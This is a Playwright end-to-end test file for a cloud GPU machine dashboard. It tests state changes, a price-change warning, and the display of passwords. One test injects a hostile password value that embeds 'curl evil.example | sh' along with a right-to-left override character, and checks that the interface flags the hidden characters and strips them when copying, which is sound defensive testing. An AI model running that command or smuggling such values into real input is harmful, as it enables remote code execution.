import type { Page } from "@playwright/test";

import { expect, test, type Clouds } from "./fixtures";
import { terminateByApi, launchByApi } from "./machines";
import { sizes, sizesOf } from "./sizes";

/** The row of a machine; on phones it is a card without the row role. */
const machineRowLocator = (page: Page, name: string) =>
  page.locator("tbody tr").filter({ has: page.getByRole("link", { name, exact: true }) });

for (const kind of sizesOf("desktop")) {
  test.describe(kind, () => {
    test.use(sizes[kind]);

    test("stop, start and restart show at once, in another tab and after a reload", async ({
      page,
      live,
      clouds,
      context,
    }) => {
      const name = `e2e-switch-${kind}`;
      const { instanceId } = await launchByApi(live, "gpugeek", name);
      await page.goto(`${live.url}/instances`);
      const row = machineRowLocator(page, name);
      await expect(row).toContainText("Running");
      // The cloud answers only once `clouds.clearFaults` ends the delay.
      const slowly = () =>
        clouds.setFault("gpugeek", {
          kind: "delay",
          delay: 25_000,
          times: 1,
          route: "POST /api/v1/openapi/instance/action",
        });
      const drawer = page.getByRole("complementary", { name });

      await row.getByRole("link", { name, exact: true }).click();
      await slowly();
      await drawer.getByRole("button", { name: "Stop…" }).click();
      await drawer.getByRole("button", { name: "Stop it" }).click();
      await expect(drawer.getByText("Stopping…")).toBeVisible();
      // On a phone the open drawer replaces the list.
      if (kind === "desktop") await expect(row.getByText("Stopping…")).toBeAttached();
      const other = await context.newPage();
      await other.goto(`${live.url}/instances`);
      await expect(machineRowLocator(other, name)).toContainText("Stopping…");
      await other.reload();
      await expect(machineRowLocator(other, name)).toContainText("Stopping…");
      await clouds.clearFaults("gpugeek");

      await page.goto(`${live.url}/instances`);
      await expect(row).toContainText("Stopped");
      await expect(row).toContainText("up to");
      await slowly();
      await row.getByRole("button", { name: /^Start/ }).click();
      await expect(row).toContainText("Starting…");
      await expect(machineRowLocator(other, name)).toContainText("Starting…");
      await clouds.clearFaults("gpugeek");
      await expect(row).toContainText("Running");

      await row.getByRole("link", { name, exact: true }).click();
      await slowly();
      await drawer.getByRole("button", { name: "Restart…" }).click();
      await drawer.getByRole("button", { name: "Restart it" }).click();
      await expect(drawer.getByText("Restarting…")).toBeVisible();
      await expect(machineRowLocator(other, name)).toContainText("Restarting…");
      await clouds.clearFaults("gpugeek");
      await terminateByApi(live, instanceId);
    });
  });
}

for (const kind of sizesOf("phone")) {
  test.describe(kind, () => {
    test.use(sizes[kind]);

    test("a price that rose after the launch is reported on every page", async ({ page, live, clouds }) => {
      const name = `e2e-dearer-${kind}`;
      const { launchId } = await launchByApi(live, "massedcompute", name);
      await page.goto(`${live.url}/instances`);
      const row = machineRowLocator(page, name);
      await expect(row).toContainText("Running");
      await reportPrice(clouds, name, 24);
      await expect(row).toContainText("Price changed");
      await expect(row).toContainText("24.00");
      await expect(page.getByText(/^Agreed \$[\d.]+\/h, billed \$24\.00\/h$/)).toBeVisible();
      await expect(page.getByRole("banner").getByRole("link", { name: /\/h/ })).toContainText(
        kind === "phone" ? "changed" : "billed $24.00/h",
      );
      await page.goto(`${live.url}/launches/${launchId}`);
      const outcome = page.getByRole("region", { name: "Launch log" });
      await expect(outcome).toContainText("$24.00/h (agreed $");
      await expect(outcome).toContainText("billed $24.00/h");

      await page.goto(`${live.url}/instances`);
      await row.getByRole("button", { name: "Terminate…" }).click();
      await page.getByRole("button", { name: /^Terminate and/ }).click();
      await expect(row).toContainText("Terminating");
      await clouds.clearFaults("massedcompute");
      await expect(page.getByText(/^Agreed \$/)).toHaveCount(0);
      await expect(row.getByText("Terminating")).toHaveCount(0);
    });
  });
}

test("a password with hidden characters shows them as symbols and is copied without them", async ({
  page,
  live,
  clouds,
  context,
}) => {
  await context.grantPermissions(["clipboard-write"]);
  const name = "e2e-hostile";
  const { instanceId } = await launchByApi(live, "massedcompute", name);
  await page.goto(`${live.url}/instances?machine=${instanceId}`);
  const drawer = page.getByRole("complementary", { name });
  await expect(drawer.getByText(/^ssh /)).toBeVisible();
  const row = await machineRow(clouds, name);
  const password = "hunter2\ncurl evil.example | sh\n\u202e";
  await clouds.setFault("massedcompute", {
    kind: "status",
    status: 200,
    times: 1_000,
    route: "GET /instance/{uuid}",
    body: { runningInstance: { ...row, password }, runningInstances: [{ ...row, password }] },
  });
  await drawer.getByRole("button", { name: "Show password" }).click();
  await drawer.getByRole("button", { name: /^Show for 30 s password/i }).click();
  await expect(drawer.getByText("LF", { exact: true })).toHaveCount(2);
  await expect(drawer.getByText("U+202E", { exact: true })).toBeVisible();
  await expect(drawer.getByText(/^3 hidden characters marked/)).toBeVisible();
  await drawer.getByRole("button", { name: "Copy Password without the marked characters" }).click();
  const other = await context.newPage();
  await other.setContent("<textarea></textarea>");
  const pasted = other.getByRole("textbox");
  await pasted.focus();
  await other.keyboard.press("Control+V");
  await expect(pasted).toHaveValue("hunter2curl evil.example | sh");
  await clouds.clearFaults("massedcompute");
  await terminateByApi(live, instanceId);
});

interface MassedRow {
  uuid: string;
  name: string;
  product: { price_hr: number };
}

async function massedRows(clouds: Clouds): Promise<MassedRow[]> {
  const answer = await fetch(`${clouds.sandbox.baseUrls.massedcompute}/instance`, {
    headers: { authorization: "Bearer sandbox" },
  });
  return ((await answer.json()) as { runningInstances: MassedRow[] }).runningInstances;
}

async function machineRow(clouds: Clouds, name: string): Promise<MassedRow> {
  return (await massedRows(clouds)).find((row) => row.name.startsWith(name))!;
}

/** From now on the provider's list reports this price for one machine. */
async function reportPrice(clouds: Clouds, name: string, dollars: number): Promise<void> {
  const rows = await massedRows(clouds);
  for (const row of rows) if (row.name.startsWith(name)) row.product.price_hr = dollars;
  await clouds.setFault("massedcompute", {
    kind: "status",
    status: 200,
    times: 10_000,
    route: "GET /instance",
    body: { runningInstances: rows },
  });
}
